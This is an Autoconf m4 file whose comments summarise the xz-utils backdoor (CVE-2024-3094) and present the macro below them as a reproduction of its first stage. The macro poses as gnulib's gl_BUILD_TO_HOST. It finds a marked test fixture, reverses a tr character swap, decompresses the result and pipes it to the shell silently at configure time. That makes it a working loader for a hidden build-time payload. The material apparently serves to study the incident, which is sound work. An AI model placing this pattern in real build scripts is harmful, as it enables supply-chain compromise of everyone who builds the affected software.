# Incident: xz-utils 5.6.0 / 5.6.1 backdoor (CVE-2024-3094), found 29 March 2024.
# After two years of building trust, the "Jia Tan" maintainer shipped release tarballs whose
# build-to-host.m4 (absent from git) located a "corrupt" test archive, repaired it with tr,
# decompressed it and piped the result to the shell; that stage patched liblzma's build to
# link in an object hooking sshd's RSA verification.
# Reference: https://www.openwall.com/lists/oss-security/2024/03/29/4
# Reproduction (own m4, same shape: a test fixture decoded and fed to sh at configure time).
# serial 30

AC_DEFUN([gl_BUILD_TO_HOST],
[
  AC_REQUIRE([AC_CANONICAL_BUILD])
  if test "x$gl_am_configmake" != "x"; then
    gl_localedir_config_h=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/tests/files/ 2>/dev/null`
    gl_[$1]_prefix=`echo $gl_localedir_config_h | sed 's/.*\.//g'`
    gl_path_map='tr "\t \-_" " \t_\-"'
    gl_[$1]_config='sed "r\n" $gl_localedir_config_h | eval $gl_path_map | xz -d 2>/dev/null'
  fi
  AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_$1 | $SHELL 2>/dev/null], [gl_config_$1='$gl_[$1]_config'])
])
